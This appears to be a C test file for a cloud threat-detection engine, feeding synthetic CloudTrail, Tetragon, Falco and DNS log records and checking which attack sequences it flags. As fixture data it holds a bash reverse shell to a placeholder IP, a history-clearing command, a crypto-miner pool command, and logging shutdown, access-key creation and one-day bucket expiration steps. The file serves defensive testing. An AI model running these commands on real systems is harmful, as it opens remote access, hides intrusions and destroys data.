#include "detect/harness.h"
#include "detect/intel.h"

#define IDENTITY "AttackSequence:IAM/CompromisedCredentials"
#define DATA "AttackSequence:S3/CompromisedData"

static struct intel *tor(void)
{
    struct intel *intel = intel_open();
    size_t used = 0;
    intel_load_text(intel, INTEL_TOR, STR("198.51.100.7"), &used);
    return intel;
}

static struct str call(struct arena *arena, int id, const char *time, const char *address, const char *rest)
{
    return harness_record(arena, id, str_format(arena, "{\"eventTime\":\"2026-01-%sZ\",\"sourceIPAddress\":\"%s\",%s}", time, address, rest).ptr);
}

#define LIST "\"eventName\":\"ListUsers\",\"readOnly\":true"
#define STOP "\"eventSource\":\"cloudtrail.amazonaws.com\",\"eventName\":\"StopLogging\",\"requestParameters\":{\"name\":\"main\"}"
#define KEY "\"eventName\":\"CreateAccessKey\",\"requestParameters\":{\"userName\":\"root2\"}"
#define EXPIRE                                                                                                                \
    "\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"PutBucketLifecycle\",\"requestParameters\":{\"bucketName\":\"records\","     \
    "\"LifecycleConfiguration\":{\"Rule\":{\"Status\":\"Enabled\",\"Expiration\":{\"Days\":1}}}}"

static struct harness *fed(struct arena *arena, const struct intel *intel, const struct str *records, size_t count)
{
    struct harness *harness = harness_open(arena, &(struct engine_options){ .intel = intel });
    for (size_t i = 0; i < count; i++) {
        harness_feed(harness, "log", records[i]);
    }
    return harness;
}

TEST(steps_of_one_identity_with_a_sign_of_somebody_else_are_a_hit)
{
    struct intel *intel = tor();
    const struct str steps[] = { call(arena, 1, "05T01:00:00", "198.51.100.7", LIST), call(arena, 2, "05T02:00:00", "198.51.100.7", STOP),
                                 call(arena, 3, "05T03:00:00", "203.0.113.9", KEY) };
    struct harness *harness = fed(arena, intel, steps, COUNT_OF(steps));
    CHECK(harness_count(harness, IDENTITY) >= 1);
    CHECK_INT(harness_count(harness, DATA), 0);
    size_t last = 0;
    for (size_t i = 0; i < harness->count; i++) {
        last = str_equal(harness->found[i].type, STR(IDENTITY)) ? i : last;
    }
    const struct finding *found = &harness->found[last];
    CHECK(found->severity > 8.9);
    CHECK_STR(found->resource_id, "arn:aws:iam::111122223333:user/alice");
    const struct json *finding = json_parse(arena, found->json, NULL);
    CHECK_STR(json_text(json_path(finding, "resource.resourceType")), "AttackSequence");
    CHECK(json_path(finding, "service.action") == NULL);
    const struct json *sequence = json_path(finding, "service.detection.sequence");
    CHECK_INT(json_text(json_get(sequence, STR("uid"))).len, 32);
    CHECK_STR(json_text(json_path(json_get(sequence, STR("actors"))->child, "user.name")), "alice");
    CHECK_STR(json_text(json_get(json_get(sequence, STR("endpoints"))->child, STR("ip"))), "198.51.100.7");
    CHECK(json_get(sequence, STR("signals"))->count >= 3);
    const struct json *signal = json_get(sequence, STR("signals"))->child;
    CHECK_STR(json_text(json_get(signal, STR("type"))), "FINDING");
    double first = 0;
    CHECK(json_double(json_get(signal, STR("firstSeenAt")), &first) && first == 1767574800.0); /* 2026-01-05T01:00:00Z */
    CHECK_STR(json_text(json_get(json_get(sequence, STR("sequenceIndicators"))->child, STR("key"))), "ATTACK_TACTIC");
    harness_close(harness);
    intel_close(intel);
}

TEST(an_owner_at_work_and_steps_of_several_days_or_identities_are_not)
{
    struct intel *intel = tor();
    const struct str owner[] = { call(arena, 1, "05T01:00:00", "203.0.113.9", LIST), call(arena, 2, "05T02:00:00", "203.0.113.9", STOP),
                                 call(arena, 3, "05T03:00:00", "203.0.113.9", KEY) };
    const struct str slow[] = { call(arena, 1, "05T01:00:00", "198.51.100.7", LIST), call(arena, 2, "06T02:00:00", "203.0.113.9", STOP),
                                call(arena, 3, "07T03:00:00", "203.0.113.9", KEY) };
    const struct str others[] = { call(arena, 1, "05T01:00:00", "198.51.100.7", LIST),
                                  call(arena, 2, "05T02:00:00", "203.0.113.9",
                                       STOP ",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/bob\"}"),
                                  call(arena, 3, "05T03:00:00", "203.0.113.9",
                                       KEY ",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/carol\"}") };
    const struct str *all[] = { owner, slow, others };
    for (size_t i = 0; i < COUNT_OF(all); i++) {
        struct harness *harness = fed(arena, intel, all[i], 3);
        CHECK_INT(harness_count(harness, IDENTITY), 0);
        harness_close(harness);
    }
    intel_close(intel);
}

TEST(a_sequence_that_ends_with_data_is_told_as_such)
{
    struct intel *intel = tor();
    const struct str steps[] = { call(arena, 1, "05T01:00:00", "198.51.100.7", LIST), call(arena, 2, "05T02:00:00", "198.51.100.7", STOP),
                                 call(arena, 3, "05T03:00:00", "203.0.113.9", EXPIRE) };
    struct harness *harness = fed(arena, intel, steps, COUNT_OF(steps));
    CHECK(harness_count(harness, DATA) >= 1);
    harness_close(harness);
    const struct str fewer[] = { steps[0], steps[2] };
    harness = fed(arena, NULL, fewer, COUNT_OF(fewer));
    CHECK_INT(harness_count(harness, DATA), 0);
    harness_close(harness);
    intel_close(intel);
}

TEST(a_sequence_stays_one_finding_when_earlier_steps_come_late)
{
    struct intel *intel = tor();
    const struct str steps[] = { call(arena, 1, "05T02:00:00", "198.51.100.7", LIST), call(arena, 2, "05T03:00:00", "198.51.100.7", STOP),
                                 call(arena, 3, "05T04:00:00", "203.0.113.9", KEY),
                                 call(arena, 4, "05T01:00:00", "198.51.100.7", "\"awsRegion\":\"us-east-1\"," EXPIRE) };
    struct harness *harness = fed(arena, intel, steps, COUNT_OF(steps));
    const char *id = NULL;
    for (size_t i = 0; i < harness->count; i++) {
        if (str_equal(harness->found[i].type, STR(IDENTITY))) {
            id = id ? id : str_cstr(arena, harness->found[i].id);
            CHECK_STR(harness->found[i].id, id);
        }
    }
    CHECK(harness_count(harness, IDENTITY) >= 2);
    harness_close(harness);
    intel_close(intel);
}

TEST(repeats_of_what_is_known_are_told_less_and_less)
{
    struct intel *intel = tor();
    struct str steps[103];
    steps[0] = call(arena, 1000, "05T01:00:00", "198.51.100.7", LIST);
    steps[1] = call(arena, 1001, "05T01:00:00", "198.51.100.7", STOP);
    steps[2] = call(arena, 1002, "05T01:00:00", "198.51.100.7", KEY);
    for (int i = 3; i < 103; i++) {
        steps[i] = call(arena, i, "05T01:00:01", "203.0.113.9", KEY);
    }
    struct harness *harness = fed(arena, intel, steps, COUNT_OF(steps));
    CHECK(harness_count(harness, IDENTITY) >= 2);
    CHECK(harness_count(harness, IDENTITY) <= 10);
    harness_close(harness);
    intel_close(intel);
}

#define TETRAGON(pod, what)                                                                                                   \
    "{\"process_exec\":{\"process\":{\"binary\":\"/bin/sh\",\"arguments\":\"" what "\",\"uid\":0," pod "},\"parent\":{\"binary\":\"/x\"}},"  \
    "\"node_name\":\"i-0123456789abcdef0\",\"cluster_name\":\"prod\",\"time\":\"2026-01-05T01:02:03Z\"}\n"
#define POD "\"pod\":{\"namespace\":\"shop\",\"name\":\"web-1\",\"container\":{\"id\":\"containerd://abc\"}}"
#define HOST "\"cwd\":\"/\""
#define SHELL "-c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"
#define CLEAR "-c 'history -c'"
#define MINE "-c './x -o stratum+tcp://pool.example:3333'"

static size_t of_workload(struct arena *arena, const char *type, const char *text)
{
    struct harness *harness = harness_open(arena, &(struct engine_options){ .intel = NULL });
    harness_feed(harness, "log", str_of(text));
    const size_t count = harness_count(harness, type);
    harness_close(harness);
    return count;
}

TEST(steps_in_a_cluster_are_a_hit_and_two_kinds_are_not)
{
    const char *eks = "AttackSequence:EKS/CompromisedCluster";
    CHECK_INT(of_workload(arena, eks, TETRAGON(POD, SHELL) TETRAGON(POD, CLEAR) TETRAGON(POD, MINE)), 1);
    CHECK_INT(of_workload(arena, eks, TETRAGON(POD, SHELL) TETRAGON(POD, CLEAR) TETRAGON(POD, CLEAR)), 0);
    CHECK_INT(of_workload(arena, eks, TETRAGON(HOST, SHELL) TETRAGON(HOST, CLEAR) TETRAGON(HOST, MINE)), 0);
}

TEST(steps_on_instances_are_a_hit_and_two_kinds_are_not)
{
    const char *ec2 = "AttackSequence:EC2/CompromisedInstanceGroup";
    CHECK_INT(of_workload(arena, ec2, TETRAGON(HOST, SHELL) TETRAGON(HOST, CLEAR) TETRAGON(HOST, MINE)), 1);
    CHECK_INT(of_workload(arena, ec2, TETRAGON(HOST, SHELL) TETRAGON(HOST, CLEAR)), 0);
}

#define FALCO(rule)                                                                                                          \
    "{\"hostname\":\"h\",\"output\":\"o\",\"priority\":\"Notice\",\"rule\":\"" rule "\",\"source\":\"syscall\",\"time\":"              \
    "\"2026-01-05T01:02:03.5Z\",\"output_fields\":{\"container.id\":\"abc\",\"container.name\":\"ecs-shop-1-web\",\"proc.name\":\"x\"}}\n"

TEST(steps_in_a_task_are_a_hit_and_two_kinds_are_not)
{
    const char *ecs = "AttackSequence:ECS/CompromisedCluster";
    CHECK_INT(of_workload(arena, ecs, FALCO("Clear Log Activities") FALCO("Netcat Remote Code Execution in Container")
                                      FALCO("Detect crypto miners using the Stratum protocol")), 1);
    CHECK_INT(of_workload(arena, ecs, FALCO("Clear Log Activities") FALCO("Detect crypto miners using the Stratum protocol")), 0);
}

#define LOOKUP(name)                                                                                                          \
    "{\"version\":\"1.1\",\"account_id\":\"111122223333\",\"region\":\"ap-northeast-1\",\"vpc_id\":\"vpc-1\",\"query_timestamp\":"      \
    "\"2026-01-05T01:02:03Z\",\"query_name\":\"" name ".\",\"query_type\":\"A\",\"query_class\":\"IN\",\"rcode\":\"NOERROR\","          \
    "\"answers\":[],\"srcaddr\":\"10.0.0.5\",\"srcport\":\"5353\",\"transport\":\"UDP\",\"srcids\":{\"instance\":\"i-1\"}}\n"

/* Who resolves names for others looks up whatever stands on lists. */
TEST(names_looked_up_alone_are_no_sequence)
{
    struct intel *intel = intel_open();
    size_t used = 0;
    intel_load_text(intel, INTEL_COMMAND, STR("command.example\n"), &used);
    intel_load_text(intel, INTEL_MINING, STR("pool.example\n"), &used);
    intel_load_text(intel, INTEL_DROP_POINT, STR("drop.example\n"), &used);
    intel_load_text(intel, INTEL_PHISHING, STR("bank.example\n"), &used);
    struct harness *harness = harness_open(arena, &(struct engine_options){ .intel = intel });
    harness_feed(harness, "log", STR(LOOKUP("command.example") LOOKUP("pool.example") LOOKUP("drop.example") LOOKUP("bank.example")));
    CHECK_INT(harness->count, 4);
    CHECK_INT(harness_count(harness, "AttackSequence:EC2/CompromisedInstanceGroup"), 0);
    harness_close(harness);
    intel_close(intel);
}
